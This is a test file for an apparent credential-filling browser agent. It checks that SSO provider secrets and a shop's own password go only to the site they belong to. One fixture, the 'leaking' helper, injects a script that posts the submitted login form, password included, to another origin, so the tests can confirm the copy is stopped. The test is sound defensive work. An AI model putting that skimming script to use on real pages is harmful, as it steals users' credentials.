import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Pages } from '../../activities/browser/index.js';
import type { GrantedCredential } from '../../activities/vault/types.js';
import type { FillResult, PageHandle, SeenPage, ValueSource } from '../../contract/steps.js';
import {
  ANSWER,
  type Bench,
  bench,
  fieldNames,
  inputOf,
  openedLogin,
  QUICK,
  testPages,
} from '../engine/login/harness.js';
import { letIn, members, PASSWORD_PAGE } from '../sites/flows/members.js';
import { type Answer, type FlowSite, serveFlow, type Visit } from '../sites/flows/serve.js';
import { variant } from '../support/variants.js';

/**
 * The secrets of an identity provider's credential are for the provider, what a person gives is for the site that asked, whatever page asks for
 * a password next. Identifiers travel: single sign-on begins with an address at the shop.
 */
const EMAIL = 'anna.lindqvist@example.com';
const OF_PROVIDER = 'Provider-Zebra-41';
const OF_SHOP = 'Shop-Walrus-7730';

let pages: Pages;
beforeAll(async () => {
  pages = await testPages();
});
afterAll(() => pages.closeAll());

interface Run {
  readonly b: Bench;
  readonly shop: FlowSite;
  readonly provider: FlowSite;
}
type Serve = (visit: Visit, places: { readonly shop: string; readonly provider: string }) => Answer | undefined;

const credentialOf = (domain: string, sso_provider: string | null): GrantedCredential => ({
  id: 'cred',
  name: 'mine',
  domain,
  version: 1,
  sso_provider,
  value_keys: ['email', 'password'],
  has_totp: true,
});

const button = (provider: string): string =>
  `<button onclick="location.href='${provider}/'">Continue with Okta</button>`;
const shopOf: Serve = (visit, { provider }) => {
  if (visit.path === '/') return PASSWORD_PAGE + button(provider);
  return visit.path === '/password' || visit.query.get('ticket') === 'good' ? letIn : members(visit);
};
const providerOf: Serve = ({ path }, { shop }) => {
  if (path === '/') return PASSWORD_PAGE;
  return path === '/password' ? { to: `${shop}/callback?ticket=good` } : undefined;
};

/** A shop and an identity provider without built-in hosts, both on loopback by different names. */
async function onShop(
  run: (run: Run) => Promise<void>,
  { shop = shopOf, provider = providerOf, sso = 'okta' as string | null } = {},
): Promise<void> {
  const places = { shop: '', provider: '' };
  const [one, other] = [
    await serveFlow((visit) => shop(visit, places)),
    await serveFlow((visit) => provider(visit, places), { hostname: 'idp.localhost' }),
  ];
  Object.assign(places, { shop: one.origin, provider: other.origin });
  const stored = { email: EMAIL, password: sso === null ? OF_SHOP : OF_PROVIDER };
  const b = bench(pages, one.host, { stored, totpSecret: 'JBSWY3DPEHPK3PXP', login: { timeouts: QUICK } });
  b.vault.grant = { ...b.vault.grant, allowed_domains: [other.host], credential: credentialOf(one.host, sso) };
  try {
    await run({ b, shop: one, provider: other });
  } finally {
    await Promise.all([one.stop(), other.stop()]);
    b.clean();
  }
}

const STORED: Record<string, ValueSource> = {
  email: { from: 'stored', key: 'email' },
  password: { from: 'stored', key: 'password' },
};

/** Opens a login, as its workflow does before the question of that number. */
const openFor = async ({ b }: Run, question: number) =>
  openedLogin(await b.activities.openLogin({ ...b.ref, question }));

async function fill({ b }: Run, page: PageHandle, seen: SeenPage, values: Parameters<Bench['fill']>[2]) {
  const result = await b.activities.fillFields({ ...b.step(page, seen, values), question: 2 });
  return result;
}

async function press({ b }: Run, page: PageHandle, { signature }: SeenPage): Promise<SeenPage> {
  const choice = { sso_button: 'okta' };
  return inputOf(await b.activities.chooseOption({ ...b.ref, page, signature, choice, answer: ANSWER, question: 1 }));
}

const close = ({ b }: Run, page: PageHandle): Promise<void> => b.activities.closePage({ ...b.ref, page });
const NOT_HERE = (...fields: string[]): Partial<FillResult> => ({ kind: 'other_site', fields });

describe("an identity provider's credential", () => {
  it('has no password and no code at the shop, but its e-mail, and all of them at the provider', () =>
    onShop(async (run) => {
      const { b, shop, provider } = run;
      const { page, outcome } = await openFor(run, 1);
      const seen = inputOf(outcome);
      expect(seen).toMatchObject({ site: shop.host, stored_secrets: false });
      expect(await fill(run, page, seen, STORED)).toMatchObject(NOT_HERE('password'));
      expect(await fill(run, page, seen, { ...STORED, password: { from: 'totp' } })).toMatchObject(
        NOT_HERE('password'),
      );
      expect([...b.vault.attempts.values()].every(({ state }) => state === 'prepared')).toBe(true);
      const asked = await press(run, page, seen);
      expect(asked).toMatchObject({ site: provider.host, stored_secrets: true });
      expect(await fill(run, page, asked, STORED)).toMatchObject({ kind: 'authenticated' });
      expect(shop.posts).toEqual([]);
      expect(provider.posts).toEqual([{ path: '/password', fields: { email: EMAIL, password: OF_PROVIDER } }]);
      await close(run, page);
    }));

  it('goes on with its e-mail at the shop, which leads to the provider', () =>
    onShop(
      async (run) => {
        const { shop, provider } = run;
        const { page, outcome } = await openFor(run, 1);
        const { email } = STORED;
        const asked = inputOf(await fill(run, page, inputOf(outcome), { email: email as ValueSource }));
        expect(asked).toMatchObject({ site: provider.host, stored_secrets: true });
        expect(await fill(run, page, asked, STORED)).toMatchObject({ kind: 'authenticated' });
        expect(shop.posts).toEqual([{ path: '/email', fields: { email: EMAIL } }]);
        await close(run, page);
      },
      {
        shop: (visit, places) => {
          if (visit.path === '/email') return { to: `${places.provider}/?login_hint=${visit.form?.get('email')}` };
          if (visit.path !== '/') return shopOf(visit, places);
          return '<h1>Sign in</h1><form method="post" action="/email"><label>E-mail <input name="email" type="email" autocomplete="username"></label><button>Next</button></form>';
        },
      },
    ));

  it('is not typed into a form of the provider that stands in a page of the shop', () =>
    onShop(
      async (run) => {
        const { page, outcome } = await openFor(run, 1);
        const asked = outcome.kind === 'input' ? outcome.page : null;
        expect(asked?.stored_secrets ?? false).toBe(false);
        if (asked !== null) expect(await fill(run, page, asked, STORED)).not.toMatchObject({ kind: 'authenticated' });
        expect(run.provider.posts).toEqual([]);
        await close(run, page);
      },
      {
        shop: (visit, { provider }) =>
          visit.path === '/'
            ? `<h1>Sign in</h1><iframe src="${provider}/" width="600" height="400"></iframe>`
            : undefined,
      },
    ));
});

describe('a form of the shop in a page of the provider, in a frame', () => {
  it('gets nothing of either', () =>
    onShop(
      async (run) => {
        const { page, outcome } = await openFor(run, 1);
        const framed = await press(run, page, inputOf(outcome)).catch(() => null);
        if (framed !== null) expect(await fill(run, page, framed, STORED)).not.toMatchObject({ kind: 'authenticated' });
        expect([...run.shop.posts, ...run.provider.posts]).toEqual([]);
        await close(run, page);
      },
      {
        provider: ({ path }, { shop }) =>
          path === '/' ? `<h1>Sign in</h1><iframe src="${shop}/" width="600" height="400"></iframe>` : undefined,
      },
    ));
});

describe('a copy of a password that leaves for the other site of the same login', () => {
  const leaking = (to: string): string => `${PASSWORD_PAGE}<script>
    document.forms[0].addEventListener('submit', () =>
      fetch('${to}/copy', { method: 'POST', mode: 'no-cors', keepalive: true, body: new URLSearchParams(new FormData(document.forms[0])) }));
  </script>`;

  it("is stopped: the provider's, on its way to the shop", () =>
    onShop(
      async (run) => {
        const { page, outcome } = await openFor(run, 1);
        const asked = await press(run, page, inputOf(outcome));
        expect(await fill(run, page, asked, STORED)).toMatchObject({ kind: 'authenticated' });
        expect(run.shop.posts).toEqual([]);
        expect(run.b.vault.trace).toContainEqual(expect.objectContaining({ reason: 'copy_stopped' }));
        await close(run, page);
      },
      { provider: (visit, places) => (visit.path === '/' ? leaking(places.shop) : providerOf(visit, places)) },
    ));

  variant("is stopped: the shop's own, on its way to the provider", () =>
    onShop(
      async (run) => {
        const { page, outcome } = await openFor(run, 1);
        const ends = await fill(run, page, inputOf(outcome), { email: EMAIL, password: OF_SHOP });
        expect(ends).toMatchObject({ kind: 'authenticated' });
        expect(run.provider.posts).toEqual([]);
        await close(run, page);
      },
      {
        shop: (visit, places) =>
          visit.path === '/' ? leaking(places.provider) + button(places.provider) : shopOf(visit, places),
      },
    ),
  );
});

describe('what a person gave', () => {
  /** The page is lost before the values are typed, and the login comes back at the provider. */
  const moving = (): { readonly serve: Serve; move(): void } => {
    let moved = false;
    return {
      serve: (visit, places) => (moved && visit.path === '/' ? { to: `${places.provider}/` } : shopOf(visit, places)),
      move: () => {
        moved = true;
      },
    };
  };

  it.each([null, 'okta'])(
    'at the shop is not typed at the provider after the page was lost (credential of: %s)',
    async (sso) => {
      const site = moving();
      await onShop(
        async (run) => {
          const { b, provider } = run;
          const first = await openFor(run, 1);
          const asked = inputOf(first.outcome);
          expect(asked.site).toBe(run.shop.host);
          const { values } = b.step(first.page, asked, { email: EMAIL, password: OF_SHOP });
          await close(run, first.page);
          site.move();
          const second = await openFor(run, 2);
          const there = inputOf(second.outcome);
          expect(there.site).toBe(provider.host);
          // The address is for both, so that nobody is asked for it twice.
          expect(await fill(run, second.page, there, values)).toMatchObject(NOT_HERE('password'));
          expect(provider.posts).toEqual([]);
          await close(run, second.page);
        },
        { shop: site.serve, sso },
      );
    },
  );
});

describe("the site's own credential", () => {
  it('is not for the page behind the button of an identity provider, also after that page was lost', () =>
    onShop(
      async (run) => {
        const { b, provider } = run;
        const { page, outcome } = await openFor(run, 1);
        const seen = inputOf(outcome);
        expect(seen.stored_secrets).toBe(true);
        const asked = await press(run, page, seen);
        expect(asked).toMatchObject({ site: provider.host, stored_secrets: false });
        expect(fieldNames(asked)).toEqual(['email', 'password']);
        expect(await fill(run, page, asked, STORED)).toMatchObject(NOT_HERE('password'));
        await close(run, page);
        const again = await openFor(run, 1);
        expect(inputOf(again.outcome)).toMatchObject({ site: provider.host, stored_secrets: false });
        expect(b.vault.asked.get(1)).toMatchObject({ site: provider.host, provider: 'okta' });
        await close(run, again.page);
      },
      { sso: null },
    ));
});
